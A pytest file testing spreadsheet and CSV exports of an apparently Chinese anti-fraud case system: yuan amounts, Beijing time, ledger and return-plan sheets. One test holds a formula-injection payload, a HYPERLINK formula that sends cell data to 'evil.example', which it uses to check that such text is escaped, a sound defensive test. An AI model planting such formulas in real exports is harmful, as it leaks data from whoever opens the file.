"""Export files opened back with the reading libraries (openpyxl, csv): Chinese headers, row
counts, money in yuan from fen, Beijing time, formula-like text escaped."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from fanzha.exports import (
    case_sheets,
    csv_bytes,
    ledger_sheets,
    queue_sheets,
    return_plan_sheets,
    transfer_sheets,
    xlsx_bytes,
)
from fanzha.exports._files import FORMULA_STARTS, Column, Sheet, safe_text

AT = datetime(2026, 12, 2, 18, 36, 5, tzinfo=UTC)  # 2026-12-03 02:36:05 in Beijing


def _task(i: int, **extra: object) -> dict[str, object]:
    return {
        "id": i,
        "band_label": "高",
        "priority": 0.875,
        "state_label": "待分派",
        "fraud_type_name": "刷单返利",
        "money_at_risk_fen": 1_234_567 + i,
        "district": "青秀区",
        "phone_number": "139****1111",
        "assignee_name": None,
        "reason": "接到涉诈号码来电",
        "signal_at": AT,
        "created_at": AT,
        "sla_due_at": AT,
        "first_contact_at": None,
        "contact_count": 0,
        "money_saved_fen": 0,
        "closed_at": None,
        **extra,
    }


def _xlsx_rows(content: bytes, sheet: int = 0) -> list[list[object]]:
    book = load_workbook(io.BytesIO(content))
    page = book.worksheets[sheet]
    return [[cell.value for cell in row] for row in page.iter_rows()]


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "CSV must start with the UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_queue_xlsx_reads_back_with_chinese_headers_yuan_and_beijing_time() -> None:
    rows = _xlsx_rows(xlsx_bytes(queue_sheets([_task(1), _task(2)])))
    header, first = rows[0], rows[1]
    assert len(rows) == 3
    assert header[:6] == ["任务编号", "优先级", "风险分", "状态", "诈骗类型", "涉险金额（元）"]
    values = dict(zip(header, first, strict=True))
    assert values["涉险金额（元）"] == pytest.approx(12345.68)
    assert values["创建时间"] == datetime(2026, 12, 3, 2, 36, 5)
    assert values["首次联系时间"] is None
    assert values["联系电话"] == "139****1111"


def test_money_cells_are_numbers_with_two_decimals() -> None:
    content = xlsx_bytes(queue_sheets([_task(0, money_at_risk_fen=5)]))
    book = load_workbook(io.BytesIO(content))
    cell = book.worksheets[0]["F2"]
    assert cell.value == pytest.approx(0.05)
    assert cell.number_format == "#,##0.00"
    assert book.worksheets[0].freeze_panes == "A2"


def test_queue_csv_has_a_bom_chinese_headers_and_exact_yuan() -> None:
    rows = _csv_rows(csv_bytes(queue_sheets([_task(1), _task(2, money_at_risk_fen=100)])[0]))
    header = rows[0]
    assert header[0] == "任务编号" and "涉险金额（元）" in header
    assert len(rows) == 3
    values = dict(zip(header, rows[2], strict=True))
    assert values["涉险金额（元）"] == "1.00"
    assert values["创建时间"] == "2026-12-03 02:36:05"
    assert values["办结时间"] == ""
    assert Decimal(dict(zip(header, rows[1], strict=True))["涉险金额（元）"]) == Decimal("12345.68")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_formula_like_text_is_escaped_in_both_formats(start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example/?x="&A1,"点击")'
    case = {
        "case_no": "A1",
        "fraud_type_name": "刷单返利",
        "amount_lost_fen": 100,
        "status": "open",
        "summary": evil,
        "victim_name": "@SUM(1+1)",
    }
    sheets = case_sheets([case])
    xlsx = _xlsx_rows(xlsx_bytes(sheets))
    book = load_workbook(io.BytesIO(xlsx_bytes(sheets)))
    for row in book.worksheets[0].iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row), "no cell may be a formula"
    values = dict(zip(xlsx[0], xlsx[1], strict=True))
    assert str(values["简要案情"]).startswith("'")
    assert values["受害人"] == "'@SUM(1+1)"
    written = _csv_rows(csv_bytes(sheets[0]))
    values = dict(zip(written[0], written[1], strict=True))
    assert values["简要案情"].startswith("'")
    assert values["受害人"] == "'@SUM(1+1)"
    assert values["状态"] == "已受理"


def test_safe_text_keeps_ordinary_text_and_drops_control_characters() -> None:
    assert safe_text("张三 13900001111") == "张三 13900001111"
    assert safe_text("a\x00b\x1fc") == "abc"
    assert safe_text("-100") == "'-100"
    assert safe_text("\x00=1+1") == "'=1+1", "a hidden control character must not hide a formula"


def test_transfers_are_in_time_order_and_channels_in_chinese() -> None:
    later = datetime(2026, 12, 3, tzinfo=UTC)
    transfers = [
        {"txn_id": "T2", "src_account": "6222****0001", "dst_account": "6222****0002",
         "amount_fen": 200_00, "at": later, "channel": "cash"},
        {"txn_id": "T3", "src_account": "6222****0002", "dst_account": "6222****0004",
         "amount_fen": 100_00, "at": later, "channel": "mobile"},
        {"txn_id": "T1", "src_account": "6222****0003", "dst_account": "6222****0001",
         "amount_fen": 300_00, "at": AT, "channel": "transfer"},
    ]  # fmt: skip
    rows = _csv_rows(csv_bytes(transfer_sheets({"case_no": "A1"}, transfers)[0]))
    assert rows[0] == ["流水号", "转出账户", "转入账户", "金额（元）", "交易时间", "渠道"]
    assert [r[0] for r in rows[1:]] == ["T1", "T2", "T3"]
    assert [r[5] for r in rows[1:]] == ["转账", "取现", "手机银行"]
    assert [r[3] for r in rows[1:]] == ["300.00", "200.00", "100.00"]


LEDGER = {
    "case_id": 7,
    "case_no": "A1",
    "entries": [
        {"entry_id": "L1", "kind": "freeze", "account_no": "6222000000000001", "bank": "中国银行",
         "amount_fen": 272_523, "at": AT, "officer": "fund", "officer_name": "王燕",
         "legal_basis": "冻字001号", "payee": None, "note": ""},
    ],
    "holdings": [
        {"account_no": "6222000000000001", "stopped_fen": 0, "frozen_fen": 272_523,
         "returned_fen": 0, "stop_paid_fen": 0, "frozen_in_fen": 272_523},
    ],
    "totals": {"stopped_fen": 0, "frozen_fen": 272_523, "returned_fen": 0, "unfrozen_fen": 0,
               "released_fen": 0, "lapsed_fen": 0},
}  # fmt: skip


def test_ledger_workbook_has_entries_balances_and_totals() -> None:
    sheets = ledger_sheets(LEDGER)
    book = load_workbook(io.BytesIO(xlsx_bytes(sheets)))
    assert book.sheetnames == ["台账记录", "各账户余额", "合计"]
    entries = [[c.value for c in row] for row in book["台账记录"].iter_rows()]
    assert entries[0][:5] == ["时间", "措施", "账户", "开户行", "金额（元）"]
    assert entries[1][1] == "冻结" and entries[1][4] == pytest.approx(2725.23)
    assert entries[0][7] == "经办人" and entries[1][7] == "王燕"
    totals = {row[0].value: row[1].value for row in book["合计"].iter_rows(min_row=2)}
    assert totals["冻结中"] == "2,725.23 元"
    assert len(_csv_rows(csv_bytes(sheets[0]))) == 2


def test_return_plan_workbook_has_lines_basis_and_notice() -> None:
    plan = {
        "case_id": "A1",
        "frozen_account": "6222000000000001",
        "bank": "中国银行",
        "frozen_fen": 100_00,
        "rule": "pro_rata",
        "rule_text": "按照被害人被骗金额占冻结在案资金总额的比例返还",
        "lines": [
            {"victim": "A1", "account": "6222000000000009", "claim_fen": 300_00,
             "amount_fen": 75_00},
            {"victim": "B2", "account": "6222000000000008", "claim_fen": 100_00,
             "amount_fen": 25_00},
        ],
        "returned_fen": 100_00,
        "remaining_fen": 0,
        "notice_required": True,
        "decided_at": AT,
        "executable_from": AT,
        "notice": "冻结资金返还公告\n\n正文",
    }  # fmt: skip
    sheets = return_plan_sheets(plan)
    book = load_workbook(io.BytesIO(xlsx_bytes(sheets)))
    assert book.sheetnames == ["返还明细", "方案概要", "返还公告"]
    lines = [[c.value for c in row] for row in book["返还明细"].iter_rows()]
    assert lines[0] == ["序号", "受害人（案件）", "返还账户", "认定金额（元）", "拟返还（元）"]
    assert [row[4] for row in lines[1:]] == [75, 25]
    summary = {row[0].value: row[1].value for row in book["方案概要"].iter_rows(min_row=2)}
    assert summary["冻结金额"] == "100.00 元"
    assert summary["方案生成时间"] == "2026-12-03 02:36:05"
    assert book["返还公告"]["A2"].value == "冻结资金返还公告"
    assert len(_csv_rows(csv_bytes(sheets[0]))) == 3


def test_return_plan_lines_say_on_what_they_are_based_when_the_plan_does() -> None:
    line = {"victim": "A1", "account": "6222000000000009", "claim_fen": 300_00,
            "amount_fen": 300_00, "traced_fen": 300_00, "loss_fen": 500_00,
            "basis_text": "依据：溯源到该账户的被害人资金"}  # fmt: skip
    plan = {"case_id": "A1", "lines": [line], "basis_text": "按溯源金额认定", "frozen_fen": 1}
    rows = _csv_rows(csv_bytes(return_plan_sheets(plan)[0]))
    assert rows[0][-3:] == ["溯源到该账户（元）", "报案损失（元）", "依据"]
    assert rows[1][-3:] == ["300.00", "500.00", "依据：溯源到该账户的被害人资金"]
    book = load_workbook(io.BytesIO(xlsx_bytes(return_plan_sheets(plan))))
    summary = {row[0].value: row[1].value for row in book["方案概要"].iter_rows(min_row=2)}
    assert summary["认定依据"] == "按溯源金额认定"


def test_sheet_titles_are_made_valid_and_unique() -> None:
    column = (Column("列", "x"),)
    sheets = [Sheet("资金流水 A/1:[x]", column), Sheet("资金流水 A/1:[x]", column)]
    book = load_workbook(io.BytesIO(xlsx_bytes(sheets)))
    assert book.sheetnames == ["资金流水 A_1__x_", "资金流水 A_1__x__2"]


def test_an_empty_table_still_has_its_header() -> None:
    assert _csv_rows(csv_bytes(case_sheets([])[0]))[0][0] == "案件编号"
    assert _xlsx_rows(xlsx_bytes(case_sheets([])))[0][0] == "案件编号"
